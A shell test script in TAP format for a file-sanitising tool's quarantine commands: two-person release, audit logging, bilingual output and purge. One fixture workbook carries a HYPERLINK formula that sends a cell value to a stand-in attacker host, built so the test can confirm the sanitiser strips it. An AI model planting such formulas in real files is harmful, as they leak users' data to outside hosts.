#!/bin/sh
# The quarantine through the command line (TAP): sanitize --state keeps the original and
# names its quarantine ID, release requests (one name is one person whatever its case),
# two approvals for an original, a held workbook released sanitised after approval,
# refusals and their exit codes, Japanese and English output, JST times, purge. Independent checks with cmp, sha256sum and sqlite3.
set -u
S=${SEKISHO:?}
SRC=${SK_SOURCE_ROOT:?}
T=$(mktemp -d /tmp/sk-qcli-XXXXXX)
trap 'rm -rf "$T"' EXIT
n=0 fails=0
ok() { n=$((n + 1)); echo "ok $n - $1"; }
nok() { n=$((n + 1)); fails=$((fails + 1)); echo "not ok $n - $1"; }
check() { if eval "$2"; then ok "$1"; else nok "$1"; fi; }
Q() { "$S" quarantine --state "$T/st" "$@"; }

printf 'MZ\220\000\003\000\000\000 not really a program' >"$T/invoice.exe"
"$S" sanitize --state "$T/st" -o "$T/out" "$T/invoice.exe" >"$T/san" 2>&1
check "sanitize --state blocks the executable (exit 1)" '[ $? -eq 1 ]'
id=$(Q --lang en list | awk -F '\t' 'NR == 2 { print $1 }')
check "the original is listed in quarantine ($id)" '[ -n "$id" ]'
sha=$(sha256sum "$T/invoice.exe" | cut -d' ' -f1)
obj="$T/st/objects/$(echo "$sha" | cut -c1-2)/$sha"
check "the stored original is the submitted file, named by its sha256" 'cmp -s "$obj" "$T/invoice.exe"'
check "object mode is 0600" '[ "$(stat -c %a "$obj")" = 600 ]'
check "show gives verdict and reason (en)" 'Q --lang en show "$id" | grep -q "^reason	executable"'
check "show is Japanese by default" 'LANG=ja_JP.UTF-8 LC_ALL= Q show "$id" | grep -q "^状態	保管中"'
check "the decision is in the audit log" '"$S" audit --state "$T/st" --lang en list | grep -q "	sanitize	item:$id sha256:$sha	blocked executable"'

# two-person release of the original (a blocked item: kind original, two approvers)
Q approvers add chief --by admin >/dev/null
Q approvers add chief2 --by chief >/dev/null
check "a non-approver cannot add approvers (exit 1)" '! Q approvers add eve --by eve >/dev/null 2>&1'
Q --lang en release "$id" -o "$T/early" --by alice >/dev/null 2>"$T/err"
check "release before a request is refused (exit 1)" '[ $? -eq 1 ] && grep -q "not been approved" "$T/err"'
check "request needs --reason" '! Q request "$id" --by alice >/dev/null 2>&1'
check "request by alice" 'Q request "$id" --by alice --reason "取引先への確認" >/dev/null'
LANG=ja_JP.UTF-8 LC_ALL= Q approve "$id" --by Alice >/dev/null 2>"$T/err"
check "Alice (another spelling of alice) cannot approve her own request (exit 1, 二人制)" '[ $? -eq 1 ] && grep -q "二人制" "$T/err"'
Q --lang en approve "$id" --by bob >/dev/null 2>"$T/err"
check "bob holds no approving role (exit 1)" '[ $? -eq 1 ] && grep -q "approving role" "$T/err"'
check "list shows 取り出し申請中 while pending" 'LANG=ja_JP.UTF-8 LC_ALL= Q list | grep "^$id	" | grep -q "取り出し申請中"'
check "chief approves (1 of 2)" 'Q --lang en approve "$id" --by chief | grep -q "1 of 2"'
check "chief cannot approve twice" '! Q approve "$id" --by CHIEF >/dev/null 2>&1'
check "release before the second approval is refused" '! Q release "$id" -o "$T/early" --by alice >/dev/null 2>&1 && [ ! -e "$T/early" ]'
check "chief2 approves (complete)" 'Q approve "$id" --by chief2 >/dev/null'
check "list shows 取り出し承認済み after approval" 'LANG=ja_JP.UTF-8 LC_ALL= Q list | grep "^$id	" | grep -q "取り出し承認済み"'
check "bob (not the requester) cannot take the original" '! Q release "$id" -o "$T/bob.exe" --by bob >/dev/null 2>&1 && [ ! -e "$T/bob.exe" ]'
check "release writes the original to its requester" 'Q release "$id" -o "$T/released.exe" --by alice >/dev/null && cmp -s "$T/released.exe" "$T/invoice.exe"'
check "state is released" 'Q --lang en show "$id" | grep -q "^state	released"'
check "show prints times in JST" 'Q --lang en show "$id" | grep -Eq "^received	[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9:]{8} JST$"'
"$S" audit --state "$T/st" --lang en list >"$T/log"
for step in "alice	quarantine-request	item:$id sha256:$sha	ok" \
	"alice	quarantine-approve	item:$id sha256:$sha	refused: self-approval" \
	"bob	quarantine-approve	item:$id sha256:$sha	refused: not-approver" \
	"chief	quarantine-approve	item:$id sha256:$sha	ok" \
	"chief	quarantine-approve	item:$id sha256:$sha	refused: twice" \
	"chief2	quarantine-approve	item:$id sha256:$sha	ok" \
	"bob	quarantine-original	item:$id sha256:$sha	refused: not-approved" \
	"alice	quarantine-original	item:$id sha256:$sha	ok"; do
	check "audited: $(echo "$step" | cut -f1,2,4)" 'grep -qF "$step" "$T/log"'
done
check "the audit list prints JST" 'sed -n 2p "$T/log" | cut -f2 | grep -Eq "^[0-9-]{10} [0-9:]{8} JST$"'
check "the audit log verifies" '"$S" audit --state "$T/st" verify >/dev/null'

# sanitize --state names each item's quarantine ID (two files of one name told apart)
mkdir -p "$T/a" "$T/b"
printf 'MZ\220\000 first' >"$T/a/通知文.doc"
printf 'MZ\220\000 second' >"$T/b/通知文.doc"
"$S" sanitize --state "$T/st" --lang en "$T/a/通知文.doc" "$T/b/通知文.doc" >"$T/two" 2>&1
check "sanitize --state prints a quarantine ID per item" '[ "$(grep -Eo "quarantine ID [0-9]{8}-[0-9a-f]{8}" "$T/two" | sort -u | wc -l)" = 2 ]'
"$S" sanitize --state "$T/st" --json "$T/a/通知文.doc" >"$T/two.json" 2>/dev/null
check "sanitize --state --json has quarantine_id" 'python3 -c "import json,sys; j=json.load(open(sys.argv[1])); assert len(j[\"quarantine_id\"])==17" "$T/two.json"'

# a held lgwan -> internet workbook: approved, it comes out sanitised (not the original)
POLICY="$SRC/examples/policy/default.yaml"
python3 - "$T/book.xlsx" <<'PY'
import sys, zipfile
ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
ct = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
      '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
      '<Default Extension="xml" ContentType="application/xml"/>'
      '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
      '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
parts = {
    '[Content_Types].xml': ct,
    '_rels/.rels': '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="%s/officeDocument" Target="xl/workbook.xml"/></Relationships>' % rel,
    'xl/workbook.xml': '<?xml version="1.0" encoding="UTF-8"?><workbook %s xmlns:r="%s"><sheets><sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>' % (ns, rel),
    'xl/_rels/workbook.xml.rels': '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="%s/worksheet" Target="worksheets/sheet1.xml"/></Relationships>' % rel,
    'xl/worksheets/sheet1.xml': '<?xml version="1.0" encoding="UTF-8"?><worksheet %s><sheetData><row r="1"><c r="A1"><v>1</v></c><c r="B1" t="str"><f>HYPERLINK("http://evil.example/?"&amp;A1,"click")</f><v>click</v></c></row></sheetData></worksheet>' % ns,
}
with zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED) as z:
    for n, d in parts.items():
        z.writestr(n, d)
PY
"$S" sanitize --state "$T/st" --policy "$POLICY" --from lgwan --to internet --lang en "$T/book.xlsx" >"$T/held" 2>&1
check "the workbook is held (exit 1)" '[ $? -eq 1 ] && grep -q "held" "$T/held"'
hid=$(grep -Eo "quarantine ID [0-9]{8}-[0-9a-f]{8}" "$T/held" | cut -d" " -f3)
check "its quarantine ID is printed ($hid)" '[ -n "$hid" ]'
check "tanaka requests its release" 'Q request "$hid" --by tanaka --reason "送付" >/dev/null'
check "Tanaka cannot approve (the same person)" '! Q approve "$hid" --by Tanaka --policy "$POLICY" >/dev/null 2>&1'
check "approving a held item needs --policy" '! Q approve "$hid" --by chief >/dev/null 2>&1'
check "chief approves: processed again" 'Q approve "$hid" --by chief --policy "$POLICY" >/dev/null'
check "list shows 取り出し承認済み" 'LANG=ja_JP.UTF-8 LC_ALL= Q list | grep "^$hid	" | grep -q "取り出し承認済み"'
check "release writes the result" 'Q release "$hid" -o "$T/out.xlsx" --by tanaka >/dev/null'
check "the result is not the original" '! cmp -s "$T/out.xlsx" "$T/book.xlsx"'
check "the HYPERLINK formula is gone" 'unzip -p "$T/out.xlsx" xl/worksheets/sheet1.xml | grep -q "click" && ! unzip -p "$T/out.xlsx" xl/worksheets/sheet1.xml | grep -q HYPERLINK'

# retention: age the rows with sqlite3, then purge
printf 'second original' >"$T/b.bin"
"$S" sanitize --state "$T/st" "$T/b.bin" >/dev/null 2>&1
check "purge with the default retention removes nothing new" 'Q --lang en purge | grep -q "purged 0 items"'
sqlite3 "$T/st/quarantine.db" "UPDATE items SET received = received - 100*86400*1000000 WHERE id='$id'"
check "purge --older-than 90 purges the old item" 'Q --lang en purge --older-than 90 --by ops | grep -q "purged 1 items"'
check "its original is gone" '[ ! -e "$obj" ]'
check "its row stays, purged, with the hash" '[ "$(sqlite3 "$T/st/quarantine.db" "SELECT state, sha256 FROM items WHERE id=\"$id\"")" = "purged|$sha" ]'
check "the newer original stays" '[ -f "$T/st/objects/$(sha256sum "$T/b.bin" | cut -c1-2)/$(sha256sum "$T/b.bin" | cut -d" " -f1)" ]'
check "bad --older-than is refused" '! Q purge --older-than -3 >/dev/null 2>&1'
check "unknown id: exit 2" 'Q show nope >/dev/null 2>&1; [ $? -eq 2 ]'
check "default state folder under XDG_STATE_HOME" 'XDG_STATE_HOME="$T/xdg" Q_=1 "$S" quarantine list >/dev/null && [ -f "$T/xdg/sekisho/quarantine.db" ]'

echo "1..$n"
[ "$fails" -eq 0 ]
